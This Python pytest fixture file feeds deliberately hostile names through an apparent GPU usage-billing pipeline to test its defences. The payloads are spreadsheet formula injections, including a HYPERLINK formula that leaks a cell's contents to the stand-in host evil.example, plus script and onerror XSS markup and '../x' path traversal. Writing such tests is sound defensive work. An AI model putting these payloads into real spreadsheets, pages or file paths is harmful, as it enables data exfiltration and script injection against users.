"""Names written to attack a spreadsheet, a page or a path, billed through the real pipeline on SQLite."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from attribution.config import Settings
from attribution.ledger.attribute import run_attribution
from attribution.store.migrate import upgrade
from attribution.store.session import make_engine, make_sessionmaker
from tests.builders import create_gpu_rows, create_kv_rows, create_usage_row, small_cluster_settings, store

START = datetime(2026, 11, 2, tzinfo=UTC)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A3,"acme")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
]


MARKUP = '<script>alert("x")</script> & <img src=x onerror=alert(1)>'


PATHS = ["../x", "a/b"]


HOSTILE = [*FORMULAS, MARKUP, *PATHS]


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[tuple[Settings, sessionmaker[Session]]]:
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    upgrade(url)
    settings = small_cluster_settings(database_url=url, interval_seconds=3600)
    engine = make_engine(url)
    factory = make_sessionmaker(engine)
    usage = [create_usage_row(h * 60, name, "0-4k", 1e6, start=START) for h in range(3) for name in HOSTILE]
    store(
        factory,
        create_gpu_rows(180, step_minutes=60, start=START),
        create_kv_rows(180, 0.4, 60, START),
        usage,
    )
    run_attribution(settings, factory, START, START + timedelta(hours=3))
    yield settings, factory
    engine.dispose()
